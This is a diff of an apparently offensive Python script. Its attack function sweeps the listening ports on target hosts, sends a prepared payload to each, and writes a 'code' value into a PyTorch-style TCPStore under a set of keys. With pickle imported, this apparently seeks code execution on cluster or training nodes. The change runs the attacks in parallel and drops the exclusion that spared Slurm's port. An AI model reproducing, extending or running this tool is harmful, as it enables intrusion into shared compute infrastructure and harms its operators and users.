@@ -7,6 +7,7 @@ import pickle
 import select
 import socket
 import sys
+import threading
 from contextlib import suppress
 from datetime import timedelta
 
@@ -39,16 +40,20 @@ def attack(host: str, port: int) -> None:
         with suppress(OSError), socket.create_connection((host, port), timeout=2) as line:
             line.sendall(sent)
             select.select([line], [], [], 0.2)
-    with suppress(Exception):
+    with suppress(Exception):  # a port that is no store may never answer
         store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=5))
         for key in KEYS:
             store.set(key, code)
 
 
 if __name__ == "__main__":
+    threads = []
     for host in sys.argv[1:]:
         ports = listening(host)
         print(host, *ports, flush=True)
-        for port in ports:
-            if port != 6818:  # Slurm's own
-                attack(host, port)
+        threads += [threading.Thread(target=attack, args=(host, port), daemon=True) for port in ports]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(15 / len(threads))
+    os._exit(0)
